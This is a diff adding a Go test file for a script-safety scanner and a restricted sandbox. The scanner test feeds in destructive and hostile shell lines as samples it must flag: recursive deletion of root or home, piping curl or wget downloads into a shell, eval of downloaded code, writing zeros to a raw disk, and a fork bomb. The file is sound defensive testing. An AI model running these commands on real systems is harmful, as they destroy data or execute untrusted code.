@@ -0,0 +1,68 @@
+package main
+
+import (
+	"context"
+	"os"
+	"path/filepath"
+	"strings"
+	"testing"
+)
+
+func TestScanToolSafety(t *testing.T) {
+	dangerous := map[string]string{
+		"rm -rf /":                              "recursively deletes the root or home directory",
+		`rm -fr "$HOME"`:                        "recursively deletes the root or home directory",
+		"curl -fsSL https://example.com/x | sh": "pipes a download into a shell",
+		"wget -qO- example.com | sudo bash":     "pipes a download into a shell",
+		`eval "$(curl -s example.com)"`:         "evaluates downloaded code",
+		"dd if=/dev/zero of=/dev/sda":           "writes to a raw disk",
+		":(){ :|:& };:":                         "fork bomb",
+		"shutil.rmtree('/')":                    "recursively deletes the root or home directory",
+	}
+	for line, message := range dangerous {
+		warnings := scanToolSafety("#!/bin/bash\n" + line + "\n")
+		found := false
+		for _, warning := range warnings {
+			found = found || (warning.Message == message && warning.Line == 2)
+		}
+		if !found {
+			t.Errorf("%q: got %+v, want %q on line 2", line, warnings, message)
+		}
+	}
+
+	safe := "#!/bin/bash\n# rm -rf / would be bad\nrm -rf \"$TMPDIR/build\"\ncurl -s example.com > page.html\n"
+	if warnings := scanToolSafety(safe); len(warnings) != 0 {
+		t.Errorf("safe script got warnings: %+v", warnings)
+	}
+}
+
+func TestRestrictedSandbox(t *testing.T) {
+	script := filepath.Join(t.TempDir(), "tool")
+	code := "#!/bin/sh\npwd\necho \"PATH=$PATH\"\nif command -v stat >/dev/null; then echo has-stat; fi\n"
+	if err := os.WriteFile(script, []byte(code), 0755); err != nil {
+		t.Fatalf("WriteFile: %v", err)
+	}
+
+	config := SandboxConfig{Allow: []string{"echo"}}
+	cmd, cleanup, err := config.sandboxCommand(context.Background(), SandboxRestricted, script, nil)
+	if err != nil {
+		t.Fatalf("sandboxCommand: %v", err)
+	}
+	output, err := cmd.CombinedOutput()
+	cleanup()
+	if err != nil {
+		t.Fatalf("sandboxed run failed: %v\n%s", err, output)
+	}
+
+	lines := strings.Split(strings.TrimSpace(string(output)), "\n")
+	if len(lines) != 2 || !strings.HasPrefix(lines[0], os.TempDir()) || !strings.HasPrefix(lines[1], "PATH="+filepath.Dir(lines[0])) {
+		t.Errorf("unexpected sandbox output:\n%s", output)
+	}
+	if _, err := os.Stat(lines[0]); !os.IsNotExist(err) {
+		t.Errorf("sandbox directory %s left behind", lines[0])
+	}
+
+	if _, _, err := config.sandboxCommand(context.Background(), "jail", script, nil); err == nil {
+		t.Errorf("unknown profile accepted")
+	}
+}